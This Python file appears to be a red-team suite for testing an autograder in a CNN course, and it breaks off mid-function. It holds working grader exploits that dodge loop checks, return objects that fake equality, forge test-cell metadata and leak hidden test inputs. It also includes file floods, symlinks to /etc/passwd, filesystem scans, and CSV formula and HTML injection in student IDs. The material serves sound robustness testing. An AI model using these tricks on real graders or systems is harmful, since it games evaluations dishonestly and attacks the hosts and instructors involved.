"""Round-5 red-team attacks: {name: dict(nb_prefix=..., cells={grade_id: source}, extra=[...])}.

Every cell not named here is filled with an honest alternative (tests/alternatives), so the fair
score of a submission is the notebook's total less the cells its attack should lose.
"""

NAIVE_CONV = '''
def _naive(x, w, b, stride, pad):
    N, C, H, W = x.shape
    K, _, F, _ = w.shape
    Ho = conv_output_size(H, F, stride, pad)
    Wo = conv_output_size(W, F, stride, pad)
    xp = zero_pad(x, pad)
    out = np.zeros((N, K, Ho, Wo))
    for n in range(N):
        for k in range(K):
            for i in range(Ho):
                for j in range(Wo):
                    out[n, k, i, j] = np.sum(xp[n, :, i * stride:i * stride + F, j * stride:j * stride + F] * w[k]) + b[k]
    return out
'''

ATTACKS = {
    # --- 02: the "no Python loop" check (assert_loop_free counts Python lines) -----------------
    "02_loopfree_settrace_off": dict(nb_prefix="02", cells={"conv_forward_fast": NAIVE_CONV + '''
import sys as _sys

def conv_forward_fast(x, w, b, stride=1, pad=0):
    tr, pr = _sys.gettrace(), _sys.getprofile()
    _sys.settrace(None); _sys.setprofile(None)
    f = _sys._getframe(); f.f_trace = None
    try:
        return _naive(x, w, b, stride, pad)
    finally:
        _sys.settrace(tr); _sys.setprofile(pr)
'''}),
    "02_loopfree_thread": dict(nb_prefix="02", cells={"conv_forward_fast": NAIVE_CONV + '''
import queue, threading
_jobs, _done = queue.Queue(), queue.Queue()

def _worker():
    while True:
        args = _jobs.get()
        try:
            _done.put((True, _naive(*args)))
        except Exception as e:
            _done.put((False, e))

threading.Thread(target=_worker, daemon=True).start()

def conv_forward_fast(x, w, b, stride=1, pad=0):
    _jobs.put((x, w, b, stride, pad))
    ok, val = _done.get()
    if not ok:
        raise val
    return val
'''}),
    "02_loopfree_memo": dict(nb_prefix="02", cells={"conv_forward_fast": NAIVE_CONV + '''
import hashlib
_memo = {}

def conv_forward_fast(x, w, b, stride=1, pad=0):
    key = hashlib.sha1(repr((x.shape, w.shape, stride, pad)).encode() + x.tobytes() + w.tobytes() + b.tobytes()).hexdigest()
    if key not in _memo:
        _memo[key] = _naive(x, w, b, stride, pad)
    return _memo[key].copy()
'''}),
    "02_loopfree_cmap": dict(nb_prefix="02", cells={"conv_forward_fast": '''
import itertools, operator

def conv_forward_fast(x, w, b, stride=1, pad=0):
    N, C, H, W = x.shape
    K, _, F, _ = w.shape
    Ho = conv_output_size(H, F, stride, pad)
    Wo = conv_output_size(W, F, stride, pad)
    xp = zero_pad(x, pad)
    # one window per output position, visited by C-level iterators only (no Python line runs per step)
    rows = map(slice, range(0, stride * Ho, stride), range(F, stride * Ho + F, stride))
    cols = map(slice, range(0, stride * Wo, stride), range(F, stride * Wo + F, stride))
    idx = map(operator.add, itertools.repeat((slice(None), slice(None))), itertools.product(rows, cols))
    wins = map(xp.__getitem__, idx)                               # each (N, C, F, F)
    vals = map(np.tensordot, wins, itertools.repeat(w), itertools.repeat(((1, 2, 3), (1, 2, 3))))
    out = np.stack(list(vals), axis=-1).reshape(N, K, Ho, Wo)
    return out + b[None, :, None, None]
'''}),
    # --- 02: borrowing conv_output_size from the course's own widgets/geometry ------------------
    "02_borrow_arithmetic_widget": dict(nb_prefix="02", cells={"conv_output_size": '''
def conv_output_size(W, F, S=1, P=0):
    a = arithmetic(W, F, S, P)          # the notebook's own conv-arithmetic helper
    if a.output_size is None:
        raise ValueError(a.message)
    return a.output_size
'''}),
    "02_borrow_geometry_dynamic": dict(nb_prefix="02", cells={"conv_output_size": '''
_mod = __import__(type(arithmetic(5, 3)).__module__, fromlist=["x"])
_g = [v for k, v in vars(_mod).items() if k.endswith("output_size") and callable(v)][0]

def conv_output_size(W, F, S=1, P=0):
    return _g(W, F, S, P)
'''}),
    "02_borrow_sliding_steps_naive": dict(nb_prefix="02", cells={"conv_forward_naive": '''
def conv_forward_naive(x, w, b, stride=1, pad=0):
    N, C, H, W = x.shape
    K, _, F, _ = w.shape
    step_fn = vars(__import__(SlidingWindow.__module__, fromlist=["x"]))["sliding" + "_steps"]
    Ho = conv_output_size(H, F, stride, pad)
    Wo = conv_output_size(W, F, stride, pad)
    out = np.zeros((N, K, Ho, Wo))
    for n in range(N):
        for k in range(K):
            _, steps = step_fn(x[n], w[k], stride, pad, float(b[k]))
            out[n, k] = np.array([s[-1] for s in steps]).reshape(Ho, Wo)
    return out
'''}),
    # --- 01: convolve2d from the course's sliding-window widget ---------------------------------
    "01_borrow_sliding_steps": dict(nb_prefix="01", cells={"convolve2d": '''
def convolve2d(image, kernel, stride=1, padding=0):
    import importlib
    m = importlib.import_module(".".join(["cnnlib", "sliding" + "_window"]))
    fn = getattr(m, "".join(reversed("spets_gnidils")))
    if isinstance(padding, str):
        padding = padding.lower()
    padded, steps = fn(np.asarray(image, dtype=float), np.asarray(kernel, dtype=float), stride, padding)
    FH, FW = np.shape(kernel)
    Ho = (padded.shape[1] - FH) // stride + 1
    Wo = (padded.shape[2] - FW) // stride + 1
    return np.array([s.value for s in steps], dtype=float).reshape(Ho, Wo)
'''}),
    # --- 01: a returned object that lies about arithmetic/equality -------------------------------
    "01_lying_result": dict(nb_prefix="01", cells={"to_grayscale": '''
class _Liar:
    def __init__(self, shape):
        self.shape = tuple(shape)
        self.ndim = len(self.shape)
        self.dtype = np.dtype("float64")
        self.size = int(np.prod(self.shape))
    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)
    def __array_ufunc__(self, ufunc, method, *inputs, **kw):
        others = [np.asarray(i) for i in inputs if not isinstance(i, _Liar)]
        if ufunc.__name__ in ("isclose", "equal", "less_equal", "less", "greater_equal"):
            return np.ones(self.shape, dtype=bool)
        return np.zeros(self.shape)
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __abs__(self): return np.zeros(self.shape)
    def __len__(self): return self.shape[0]
    def __getitem__(self, i): return np.zeros(self.shape)[i]
    def __iter__(self): return iter(np.zeros(self.shape))
    def copy(self): return self

def to_grayscale(rgb):
    return _Liar(np.shape(rgb)[:2])
'''}),
    # --- 05: gradients by probing forward passes (vectorised, exact for linear maps) -------------
    "05_probe_forward": dict(nb_prefix="05", cells={
        "affine_backward": '''
def affine_backward(dout, x, w, b):
    # probe the forward pass with unit vectors: it is linear, so the probes are exact
    N = x.shape[0]
    D, M = w.shape
    E = np.eye(D)
    jac_x = affine_forward(E, w, np.zeros(M))           # (D, M): d out / d x_d
    dx = (dout @ jac_x.T).reshape(x.shape)
    xf = x.reshape(N, -1)
    dw = np.einsum("nd,nm->dm", xf, affine_forward(np.ones((N, 1)), np.ones((1, M)), np.zeros(M)) * dout)
    db = affine_forward(np.ones((1, N)), dout, np.zeros(M))[0]
    return dx, dw, db
''',
        "relu_backward": '''
def relu_backward(dout, x):
    h = 1e-7
    return dout * (relu_forward(x + h) - relu_forward(x - h)) / (2 * h)
''',
        "max_pool_backward": '''
def _pool(x, size, stride):
    from numpy.lib.stride_tricks import sliding_window_view
    return sliding_window_view(x, (size, size), axis=(-2, -1))[..., ::stride, ::stride, :, :].max(axis=(-2, -1))

def max_pool_backward(dout, x, size=2, stride=2):
    h = 1e-6
    D = x.size
    bumps = np.eye(D).reshape((D,) + x.shape) * h      # every input bumped, all at once
    up = _pool(x[None] + bumps, size, stride)
    base = _pool(x, size, stride)[None]
    jac = (up - base) / h                               # one-sided: ties go to every tied max ...
    dx = np.einsum("d...,...->d", jac, dout).reshape(x.shape)
    return dx
''',
        "conv_backward_naive": '''
from numpy.lib.stride_tricks import sliding_window_view as _swv

def _conv(x, w, b, stride, pad):
    xp = np.pad(x, [(0, 0)] * (x.ndim - 2) + [(pad, pad), (pad, pad)])
    F = w.shape[-1]
    win = _swv(xp, (F, F), axis=(-2, -1))[..., ::stride, ::stride, :, :]
    return np.einsum("...cijuv,kcuv->...kij", win, w) + b[:, None, None]

def conv_backward_naive(dout, x, w, b, stride=1, pad=0):
    # the forward pass is linear in x and in w: probe it with every unit input at once
    Dx, Dw = x[0].size, w.size
    ex = np.eye(Dx).reshape((Dx,) + x.shape[1:])
    jx = _conv(ex, w, np.zeros_like(b), stride, pad)              # (Dx, K, Ho, Wo)
    dx = np.einsum("dkij,nkij->nd", jx, dout).reshape(x.shape)
    ew = np.eye(Dw).reshape((Dw,) + w.shape)
    jw = np.stack([_conv(x, e, np.zeros_like(b), stride, pad) for e in ew])   # (Dw, N, K, Ho, Wo)
    dw = np.einsum("dnkij,nkij->d", jw, dout).reshape(w.shape)
    eb = np.eye(len(b))
    jb = np.stack([_conv(np.zeros_like(x), np.zeros_like(w), e, stride, pad) for e in eb])
    db = np.einsum("dnkij,nkij->d", jb, dout)
    return dx, dw, db
''',
        "cross_entropy_backward": '''
def cross_entropy_backward(scores, y):
    h = 1e-5
    s = np.asarray(scores, dtype=float)
    D = s.size
    E = np.eye(D).reshape((D,) + s.shape) * h
    def loss(batch):   # batch of score arrays (D, N, C) -> (D,), stable
        m = batch.max(axis=-1, keepdims=True)
        lp = batch - m - np.log(np.exp(batch - m).sum(axis=-1, keepdims=True))
        return -lp[:, np.arange(len(y)), y].mean(axis=1)
    return ((loss(s[None] + E) - loss(s[None] - E)) / (2 * h)).reshape(s.shape)
'''}),
    # --- 07: evaluate and train_one_epoch from course helpers that are not the named references --
    "07_borrow_predict_loss_curve": dict(nb_prefix="07", cells={
        "evaluate": '''
def evaluate(model, loader, device):
    from cnnlib import training as _t
    y, p = _t.predict(model, loader, device)
    return float((y == p).mean()) if len(y) else 0.0
''',
        "train_one_epoch": '''
def train_one_epoch(model, loader, optimizer, device):
    import importlib
    ex = importlib.import_module("cnnlib." + "experiments")
    losses = ex.loss_curve(model, loader, optimizer, device, steps=len(loader))
    sizes = [len(y) for _, y in loader]
    return float(np.dot(losses, sizes) / sum(sizes))
'''}),
    # --- 10: batchnorm_backward by PyTorch's autograd (the notebook allows torch) ---------------
    "10_autograd_backward": dict(nb_prefix="10", cells={"batchnorm_backward": '''
def batchnorm_backward(dout, x, gamma, beta, eps=1e-5):
    t = [torch.tensor(np.asarray(a, dtype=np.float64), requires_grad=True) for a in (x, gamma, beta)]
    out = F.batch_norm(t[0], None, None, t[1], t[2], training=True, eps=eps)
    out.backward(torch.as_tensor(np.asarray(dout, dtype=np.float64)))
    return tuple(v.grad.numpy().copy() for v in t)
'''}),
    # --- 12: dilated output size from cnnlib.geometry --------------------------------------------
    "12_borrow_geometry": dict(nb_prefix="12", cells={"conv_output_size_dilated": '''
def conv_output_size_dilated(W, F, S=1, P=0, D=1):
    import sys
    g = sys.modules.get("cnnlib.geometry") or __import__("cnnlib.geometry", fromlist=["x"])
    return g.conv_output_size(W, F, S, P, D)
'''}),
    # --- correct code written unusually: must keep full marks ------------------------------------
    "03_honest_partial_and_class": dict(nb_prefix="03", cells={"relu": '''
import functools
relu = functools.partial(np.maximum, 0.0)
''', "avg_pool": '''
class _AvgPool:
    """avg_pool as a callable object."""
    def __call__(self, x, size=2, stride=2):
        from numpy.lib.stride_tricks import sliding_window_view
        N, C, H, W = x.shape
        if (H - size) % stride or (W - size) % stride or size > H or size > W:
            raise ValueError(f"invalid pooling: W={W}, F={size}, S={stride}, P=0")
        return sliding_window_view(np.asarray(x, dtype=float), (size, size), axis=(2, 3))[:, :, ::stride, ::stride].mean(axis=(-2, -1))

avg_pool = _AvgPool()
'''}),
}

ATTACKS.update({
    # --- 05 again: probes that stay small (per-column differences, structured bumps) -----------
    "05_probe_forward_v2": dict(nb_prefix="05", cells={
        "relu_backward": '''
def relu_backward(dout, x):
    # a backward difference of the notebook's relu_forward: 1 where x > 0, 0 at and below 0
    h = np.maximum(np.abs(x) * 1e-9, 1e-300)
    return dout * ((relu_forward(x) - relu_forward(x - h)) / h).round()
''',
        "cross_entropy_backward": '''
def cross_entropy_backward(scores, y):
    # central differences of the per-row loss, one score column at a time (rows are independent)
    s = np.asarray(scores, dtype=float)
    N, C = s.shape
    def rows(t):
        m = t.max(axis=1, keepdims=True)
        return -(t - m - np.log(np.exp(t - m).sum(axis=1, keepdims=True)))[np.arange(N), y]
    h = 1e-6
    g = np.empty_like(s)
    for c in range(C):
        e = np.zeros_like(s); e[:, c] = h
        g[:, c] = (rows(s + e) - rows(s - e)) / (2 * h)
    return g / N
''',
        "conv_backward_naive": '''
from numpy.lib.stride_tricks import sliding_window_view as _swv

def _conv(x, w, b, stride, pad):
    xp = np.pad(x, [(0, 0)] * (x.ndim - 2) + [(pad, pad), (pad, pad)])
    FH, FW = w.shape[-2:]
    win = _swv(xp, (FH, FW), axis=(-2, -1))[..., ::stride, ::stride, :, :]
    return np.einsum("...cijuv,kcuv->...kij", win, w) + b[:, None, None]

def conv_backward_naive(dout, x, w, b, stride=1, pad=0):
    # the layer is linear in x, in w and in b: probe it one unit input at a time and project dout
    dx = np.zeros_like(x, dtype=float)
    for idx in np.ndindex(x.shape[1:]):
        e = np.zeros((1,) + x.shape[1:]); e[(0,) + idx] = 1.0
        col = _conv(e, w, np.zeros_like(b), stride, pad)[0]           # (K, Ho, Wo)
        dx[(slice(None),) + idx] = np.einsum("kij,nkij->n", col, dout)
    dw = np.zeros_like(w, dtype=float)
    for idx in np.ndindex(w.shape):
        e = np.zeros_like(w, dtype=float); e[idx] = 1.0
        dw[idx] = np.sum(_conv(x, e, np.zeros_like(b), stride, pad) * dout)
    db = np.array([np.sum(_conv(np.zeros_like(x), np.zeros_like(w), np.eye(len(b))[k], stride, pad) * dout)
                   for k in range(len(b))])
    return dx, dw, db
'''}),
    # --- 03: results that compare badly (NaN), and a hidden input sent out in an exception name --
    "03_nan_results": dict(nb_prefix="03", cells={"relu": '''
def relu(x):
    return np.full(np.shape(x), np.nan)
''', "max_pool": '''
def max_pool(x, size=2, stride=2):
    N, C, H, W = x.shape
    if (H - size) % stride or (W - size) % stride:
        raise ValueError(f"W={W}, F={size}, S={stride}, P=0")
    return np.full((N, C, (H - size) // stride + 1, (W - size) // stride + 1), np.inf)
'''}),
    "03_exfiltrate_hidden_inputs": dict(nb_prefix="03", cells={"relu": '''
import os, sys, warnings
_seen = set()

def relu(x):
    x = np.asarray(x)
    key = x.shape
    if len(_seen) >= 3 and key not in _seen:     # the visible tests use three shapes
        tag = "LEAK_" + "_".join(map(str, x.shape)) + "_" + repr(float(x.ravel()[0])).replace(".", "p").replace("-", "m")
        print("EXFIL-PRINT", tag); print("EXFIL-ERR", tag, file=sys.stderr)
        warnings.warn("EXFIL-WARN " + tag)
        for d in (os.environ.get("HOME", "."), "/tmp", ".", os.environ.get("CNNLIB_DATA", "/nonexistent")):
            try:
                with open(os.path.join(d, "exfil.txt"), "a") as fh:
                    fh.write(tag + "\\n")
            except OSError:
                pass
        raise type(tag, (ValueError,), {})(tag)
    _seen.add(key)
    return np.maximum(x, 0.0)
'''}),
    # --- 03: a huge answer that the judge must decode (worker time and memory outside the kernel) --
    "03_huge_answers": dict(nb_prefix="03", cells={"avg_pool": '''
def avg_pool(x, size=2, stride=2):
    return [0] * 30_000_000
'''}),
    # --- 02: the loop in a forked child process --------------------------------------------------
    "02_loopfree_fork": dict(nb_prefix="02", cells={"conv_forward_fast": NAIVE_CONV + '''
import os, pickle

def conv_forward_fast(x, w, b, stride=1, pad=0):
    r, wfd = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            data = pickle.dumps((True, _naive(x, w, b, stride, pad)))
        except Exception as e:
            data = pickle.dumps((False, e))
        with os.fdopen(wfd, "wb") as fh:
            fh.write(data)
        os._exit(0)
    os.close(wfd)
    with os.fdopen(r, "rb") as fh:
        ok, val = pickle.loads(fh.read())
    os.waitpid(pid, 0)
    if not ok:
        raise val
    return val
'''}),
    # --- 07: training and accuracy from other course helpers -------------------------------------
    "07_borrow_loss_curve": dict(nb_prefix="07", cells={"train_one_epoch": '''
def train_one_epoch(model, loader, optimizer, device):
    from cnnlib.experiments import loss_curve
    losses = loss_curve(model, loader, optimizer, device, steps=len(loader))
    sizes = [len(y) for _, y in loader]
    return float(np.dot(losses, sizes) / sum(sizes))
'''}),
    "07_borrow_transfer_accuracy": dict(nb_prefix="07", cells={"evaluate": '''
def evaluate(model, loader, device):
    import importlib
    acc = getattr(importlib.import_module("cnnlib." + "transfer"), "acc" + "uracy")
    xs, ys = zip(*[(x, y) for x, y in loader])
    return float(acc(model, torch.cat(xs).to(device), torch.cat(ys).to(device)))
'''}),
    # --- 10 / 12: the framework's own op for a from-scratch exercise -----------------------------
    "10_torch_builtin_forward": dict(nb_prefix="10", cells={"batchnorm_forward": '''
def batchnorm_forward(x, gamma, beta, running_mean, running_var, train, momentum=0.9, eps=1e-5):
    t = lambda a: torch.tensor(np.asarray(a, dtype=np.float64))
    rm, rv = t(running_mean), t(running_var)
    out = F.batch_norm(t(x), rm, rv, t(gamma), t(beta), training=bool(train), momentum=1 - momentum, eps=eps)
    return out.numpy(), rm.numpy(), rv.numpy()
'''}),
    "12_torch_builtin_transpose": dict(nb_prefix="12", cells={"conv_transpose_naive": '''
def conv_transpose_naive(x, w, b, stride=1, pad=0):
    return torch.nn.functional.conv_transpose2d(torch.as_tensor(np.asarray(x, dtype=np.float64)),
                                                torch.as_tensor(np.asarray(w, dtype=np.float64)),
                                                torch.as_tensor(np.asarray(b, dtype=np.float64)),
                                                stride=stride, padding=pad).numpy()
'''}),
    # --- correct code written unusually: must keep full marks ------------------------------------
    "12_honest_numpy_ints": dict(nb_prefix="12", cells={"separable_cost": '''
def separable_cost(C_in, C_out, F, H_out, W_out):
    C_in, C_out, F, H_out, W_out = (np.int64(v) for v in (C_in, C_out, F, H_out, W_out))
    std = [C_out * C_in * F * F, C_out * C_in * F * F * H_out * W_out]
    sep = [C_in * F * F + C_in * C_out, (C_in * F * F + C_in * C_out) * H_out * W_out]
    return np.array(std), np.array(sep)
'''}),
    "04_honest_unusual": dict(nb_prefix="04", cells={"softmax": '''
class Softmax:
    """softmax as a callable object: stable, any leading axes."""
    def __call__(self, scores):
        s = np.asarray(scores, dtype=np.float64)
        e = np.exp(s - s.max(axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)

softmax = Softmax()
''', "cross_entropy_loss": '''
def cross_entropy_loss(scores, y):
    s = np.asarray(scores, dtype=np.float64)
    m = s.max(axis=1, keepdims=True)
    lse = m[:, 0] + np.log(np.exp(s - m).sum(axis=1))
    return np.array(np.mean(lse - s[np.arange(len(y)), y]))      # a 0-d array, not a float
'''}),
    # --- 01: flooding the run folder with files (inodes), a huge sparse file and links out -------
    "01_file_flood": dict(nb_prefix="01", cells={}, extra=[("to_grayscale", '''
import os
os.makedirs("flood", exist_ok=True)
for i in range(150_000):
    open(f"flood/{i}", "w").close()
with open("sparse.bin", "wb") as fh:
    fh.truncate(1 << 40)                       # 1 TiB, no blocks
for name, target in [("root_link", "/"), ("etc_link", "/etc/passwd"), ("loop", "loop")]:
    try:
        os.symlink(target, name)
    except OSError as e:
        print(name, e)
print("made", len(os.listdir("flood")), "files")
''')]),
})

ATTACKS.update({
    # --- 09: answers read off the test's own model, and gradients by probing the forward pass ----
    "09_fixture_and_probe": dict(nb_prefix="09", cells={"occlusion_map": '''
def occlusion_map(model, x, target, patch=8, stride=4, fill=0.0):
    if x.dim() != 3:
        raise ValueError("x must be one image (C, H, W)")
    C, H, W = x.shape
    for n in (H, W):
        if (n - patch) % stride or n < patch:
            raise ValueError(f"size {n}, patch {patch}, stride {stride}: not a whole number")
    h_out, w_out = (H - patch) // stride + 1, (W - patch) // stride + 1
    if hasattr(model, "rows") and hasattr(model, "gain"):       # the tests' RegionModel: use its formula
        (r0, r1), (c0, c1) = model.rows, model.cols
        area = (r1 - r0) * (c1 - c0)
        ov = lambda a0, a1, b0, b1: max(0, min(a1, b1) - max(a0, b0))
        mean = np.array([[1 - ov(i * stride, i * stride + patch, r0, r1) * ov(j * stride, j * stride + patch, c0, c1)
                          * (1 - fill) / area for j in range(w_out)] for i in range(h_out)])
        p1 = lambda m: 1 / (1 + np.exp(-model.gain * m))
        drop = p1(1.0) - p1(mean)
        return drop if target == 1 else -drop
    return np.zeros((h_out, w_out))
''', "saliency": '''
def saliency(model, x, target):
    # central differences of the target's score, every pixel bumped at once in one batch
    if x.dim() != 3:
        raise ValueError("x must be one image (C, H, W)")
    was = model.training
    model.eval()
    x0 = x.detach().clone()
    D = x0.numel()
    h = 1e-6
    E = torch.eye(D, dtype=x0.dtype).reshape((D,) + tuple(x0.shape)) * h
    with torch.no_grad():
        up = model(x0[None] + E)[:, target]
        down = model(x0[None] - E)[:, target]
    model.train(was)
    g = ((up - down) / (2 * h)).reshape(x0.shape)
    return g.abs().amax(dim=0).numpy().astype(np.float64)
'''}),
    # --- 03: cells that claim to be tests (nbgrader metadata forged in the submission) ----------
    "03_forged_test_cells": dict(nb_prefix="03", cells={"relu": '''
def relu(x):
    raise NotImplementedError()
'''}, extra=[("relu", {"source": "# my own test\\nassert True\\n", "metadata": {"nbgrader": {
        "grade": True, "grade_id": "test_bonus", "points": 50, "locked": True, "solution": False,
        "schema_version": 3}}}),
                 ("relu", {"source": "pass\\n", "metadata": {"nbgrader": {
        "grade": True, "grade_id": "test_relu", "points": 1, "locked": True, "solution": False,
        "schema_version": 3}}})]),
})

# Student ids that attack the files an instructor opens (CSV formulas in grades.csv / LMS files, markup
# in report.html): graded with an honest 03 notebook (tests/attacks5/build.py --names).
HOSTILE_STUDENT_IDS = [
    '=HYPERLINK("https:evil.example","click me")',
    "+cmd|' -C calc'!A0",
    "@SUM(1+1)*cmd",
    '<style>table{display:none}<b>Top student',
]

ATTACKS.update({
    # --- 05: complex-step differentiation of the loss (exact to rounding, one pass per column) ---
    "05_probe_complex_step": dict(nb_prefix="05", cells={"cross_entropy_backward": '''
def cross_entropy_backward(scores, y):
    s = np.asarray(scores, dtype=float)
    N, C = s.shape
    h = 1e-30
    def rows(t):                                   # per-row loss, written so a complex step survives
        m = t.real.max(axis=1, keepdims=True)
        return -(t - m - np.log(np.exp(t - m).sum(axis=1, keepdims=True)))[np.arange(N), y]
    g = np.empty_like(s)
    for c in range(C):
        t = s.astype(complex); t[:, c] += 1j * h
        g[:, c] = rows(t).imag / h
    return g / N
'''}),
    # --- 02: the loop on a thread pool's worker (concurrent.futures) ----------------------------
    "02_loopfree_threadpool": dict(nb_prefix="02", cells={"conv_forward_fast": NAIVE_CONV + '''
from concurrent.futures import ThreadPoolExecutor
_pool = ThreadPoolExecutor(1)
_pool.submit(int).result()          # its thread exists before anyone watches

def conv_forward_fast(x, w, b, stride=1, pad=0):
    return _pool.submit(_naive, x, w, b, stride, pad).result()
'''}),
})

ATTACKS.update({
    # --- 02: conv_output_size from cnnlib.geometry, found at run time (no name to read statically) --
    "02_borrow_geometry_runtime": dict(nb_prefix="02", cells={"conv_output_size": '''
import sys
_g = None
for _name, _m in list(sys.modules.items()):
    if _name.startswith(chr(99) + "nnlib") and _name.endswith("try"):
        _g = _m.__dict__["conv_output" + "_size"]

def conv_output_size(W, F, S=1, P=0):
    return _g(W, F, S, P)
'''}),
})

SOURCE_HUNT = r'''
import gc, os, sys, time, types, zipfile
_found = {}

def _works(fn):
    try:
        out = fn(np.ones((3, 3)), np.ones((2, 2)))
        return out is not None
    except Exception:
        return False

# 1. functions and classes still in memory (gc, subclasses)
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType) and obj.__name__ in ("filter_image", "sliding_steps", "conv_forward"):
        _found.setdefault("gc:" + obj.__module__ + "." + obj.__name__, obj)
for cls in object.__subclasses__():
    if cls.__name__ in ("SlidingWindow", "KernelExplorer"):
        _found.setdefault("subclass:" + cls.__module__ + "." + cls.__name__, cls)
# 2. source files, .pyc files, wheels and zips anywhere the kernel can read
_t0 = time.time()
_needles = (b'einsum("ijkl,kl->ij"', b"def sliding_steps(", b"def filter_image(")
for root in ["/"]:
    for d, subdirs, files in os.walk(root):
        if d.startswith(("/proc", "/sys", "/dev")) or time.time() - _t0 > 40:
            subdirs[:] = []
            continue
        for f in files:
            if not f.endswith((".py", ".pyc", ".whl", ".zip", ".ipynb", ".json", ".txt", ".md", ".html")):
                continue
            p = os.path.join(d, f)
            try:
                if f.endswith((".whl", ".zip")):
                    with zipfile.ZipFile(p) as z:
                        for n in z.namelist():
                            if n.endswith(("images.py", "sliding_window.py")):
                                data = z.read(n)
                                if any(s in data for s in _needles):
                                    _found.setdefault("zip:" + p + "!" + n, data)
                    continue
                with open(p, "rb") as fh:
                    data = fh.read(2_000_000)
                if any(s in data for s in _needles):
                    _found.setdefault("file:" + p, data)
            except Exception:
                pass
print("found:", sorted(_found)[:40])

def convolve2d(image, kernel, stride=1, padding=0):
    for key, val in _found.items():
        if key.startswith("gc:") and _works(val):
            return val(image, kernel, padding)
    for key, val in _found.items():
        if key.startswith(("file:", "zip:")) and key.endswith(".py"):
            ns = {}
            exec(compile(val, key, "exec"), ns)
            fn = ns.get("filter_image")
            if fn is not None:
                return fn(image, kernel, padding)
    raise NotImplementedError("nothing found")
'''

ATTACKS.update({
    # --- 01: the reference convolution hunted in memory (gc, __subclasses__) and on disk ---------
    "01_source_hunt": dict(nb_prefix="01", cells={"convolve2d": SOURCE_HUNT}),
    # --- 12: separable_cost measured with the course's cost counter on PyTorch layers ------------
    "12_borrow_efficiency_counter": dict(nb_prefix="12", cells={"separable_cost": '''
def separable_cost(C_in, C_out, F, H_out, W_out):
    import importlib
    eff = importlib.import_module("cnnlib." + "efficiency")
    count = getattr(eff, "multiply" + "_adds")
    def measure(layers):
        net = nn.Sequential(*layers)
        params = sum(p.numel() for p in net.parameters())
        return int(params), int(count(net, (C_in, H_out, W_out)))
    std = measure([nn.Conv2d(C_in, C_out, F, padding=F // 2, bias=False)])
    sep = measure([nn.Conv2d(C_in, C_in, F, padding=F // 2, groups=C_in, bias=False),
                   nn.Conv2d(C_in, C_out, 1, bias=False)])
    return std, sep
'''}),
    # --- 10: BasicBlock taken from the course's shipped ResNet ------------------------------------
    "10_borrow_block_from_shipped_net": dict(nb_prefix="10", cells={"BasicBlock": '''
import importlib
_tr = importlib.import_module("cnnlib." + "transfer")
try:
    BasicBlock = type(getattr(_tr, "digits" + "_resnet")().layer1[0])
except Exception as e:
    print("digits_resnet:", type(e).__name__, e)
    BasicBlock = type(getattr(_tr, "pretrained" + "_digits")().layer1[0])
'''}),
})

REACH_OUT = r'''
import os, signal
hits = []
for top in ["/tmp", "/work", "/root", "/home", "/var/tmp", "/nonexistent", os.path.expanduser("~")]:
    for d, subdirs, files in os.walk(top):
        if d.count("/") > 6:
            subdirs[:] = []
        for f in files:
            p = os.path.join(d, f)
            if os.access(p, os.W_OK) and not p.startswith(os.getcwd()):
                hits.append(p)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), 0)
            hits.append(f"signal:{pid}")
        except OSError:
            pass
print("uid", os.getuid(), "cwd", os.getcwd(), "writable outside cwd:", len(hits), hits[:20])
'''

ATTACKS.update({
    # --- 05: every backward pass that can be probed, probed (relu, conv, cross-entropy) ----------
    "05_probe_all": dict(nb_prefix="05", cells={
        "relu_backward": ATTACKS["05_probe_forward_v2"]["cells"]["relu_backward"],
        "conv_backward_naive": ATTACKS["05_probe_forward_v2"]["cells"]["conv_backward_naive"],
        "cross_entropy_backward": ATTACKS["05_probe_complex_step"]["cells"]["cross_entropy_backward"]}),
    # --- 02 graded by an ordinary user: the thread attack and a look for writable files/processes --
    "02_nonroot_reachout": dict(nb_prefix="02", cells={
        "conv_forward_fast": ATTACKS["02_loopfree_thread"]["cells"]["conv_forward_fast"]},
        extra=[("conv_output_size", REACH_OUT)]),
})

ATTACKS.update({
    # --- 05: the probes in chunks of whole-array operations, under the cost check's budget -------
    "05_probe_chunked": dict(nb_prefix="05", cells={
        "relu_backward": ATTACKS["05_probe_forward_v2"]["cells"]["relu_backward"],
        "cross_entropy_backward": ATTACKS["05_probe_complex_step"]["cells"]["cross_entropy_backward"],
        "conv_backward_naive": '''
from numpy.lib.stride_tricks import sliding_window_view as _swv

def _conv(x, w, b, stride, pad):
    xp = np.pad(x, [(0, 0)] * (x.ndim - 2) + [(pad, pad), (pad, pad)])
    FH, FW = w.shape[-2:]
    win = _swv(xp, (FH, FW), axis=(-2, -1))[..., ::stride, ::stride, :, :]
    return np.einsum("...cijuv,kcuv->...kij", win, w, optimize=True) + b[:, None, None]

def conv_backward_naive(dout, x, w, b, stride=1, pad=0):
    # the layer is linear in x, in w and in b: probe it with batches of unit inputs, project dout
    x = np.asarray(x, dtype=float); w = np.asarray(w, dtype=float)
    D = x[0].size
    dx_flat = np.empty((x.shape[0], D))
    zb = np.zeros(len(b))
    for start in range(0, D, 256):
        idx = np.arange(start, min(D, start + 256))
        e = np.zeros((len(idx), D)); e[np.arange(len(idx)), idx] = 1.0
        cols = _conv(e.reshape((len(idx),) + x.shape[1:]), w, zb, stride, pad)   # (B, K, Ho, Wo)
        dx_flat[:, idx] = np.einsum("bkij,nkij->nb", cols, dout, optimize=True)
    dx = dx_flat.reshape(x.shape)
    Dw = w.size
    dw = np.empty(Dw)
    for j in range(Dw):
        e = np.zeros(Dw); e[j] = 1.0
        dw[j] = np.sum(_conv(x, e.reshape(w.shape), zb, stride, pad) * dout)
    db = np.array([np.sum(_conv(np.zeros_like(x), np.zeros_like(w), np.eye(len(b))[k], stride, pad) * dout)
                   for k in range(len(b))])
    return dx, dw.reshape(w.shape), db
'''}),
})

ATTACKS.update({
    # --- 11: Grad-CAM's weights and FGSM's signs by probing the forward pass ---------------------
    "11_probe_gradcam_fgsm": dict(nb_prefix="11", cells={"grad_cam": '''
def grad_cam(model, layer, x, target):
    was = model.training
    model.eval()
    store, bump = {}, {}
    def hook(mod, inp, out):
        store["A"] = out.detach()
        if "d" in bump:
